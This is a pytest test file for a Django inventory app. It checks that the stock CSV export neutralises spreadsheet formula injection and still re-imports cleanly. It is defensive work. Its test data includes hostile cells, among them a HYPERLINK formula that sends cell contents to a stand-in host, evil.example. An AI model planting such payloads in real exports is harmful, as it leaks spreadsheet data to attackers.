"""The stock export is safe to open in a spreadsheet: a cell that would start a formula
(`=HYPERLINK(...)`, `+`, `-`, `@`, tab, CR) is written with a leading apostrophe, and the
export can still be imported back as it is."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.csv_safe import csv_escape, csv_unescape, csv_writer
from inventory.models import StockLevel
from tests.factories import stocked
from tests.factories.pages import make_sku

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_every_formula_start_gets_an_apostrophe_and_numbers_stay_numbers():
    out = io.StringIO()
    csv_writer(out).writerows([[*HOSTILE, "plain", -3, 0]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert row[len(HOSTILE) :] == ["plain", "-3", "0"]
    assert [csv_unescape(str(csv_escape(value))) for value in HOSTILE] == HOSTILE


def test_the_stock_export_writes_a_formula_sku_code_as_text(back_office_client, warehouse):
    sku = make_sku(code='=HYPERLINK("http://evil.example","x")')
    stocked(warehouse, sku, 3)

    response = back_office_client.get(reverse("inventory:export"))

    rows = list(csv.reader(io.StringIO(streamed(response))))
    (exported,) = [row for row in rows[1:] if row[0] == warehouse.code]
    assert exported[1] == "'" + sku.code
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_export_imports_back_unchanged(back_office_client, warehouse):
    sku = make_sku(code="-DASH-1")
    stocked(warehouse, sku, 3)
    exported = streamed(back_office_client.get(reverse("inventory:export"))).replace(",3,", ",7,", 1)
    upload = SimpleUploadedFile("stock.csv", exported.encode(), content_type="text/csv")

    response = back_office_client.post(reverse("inventory:import"), {"file": upload})

    assert response.status_code in (200, 302), response.content[:500]
    assert StockLevel.objects.get(location=warehouse, sku=sku).on_hand == 7
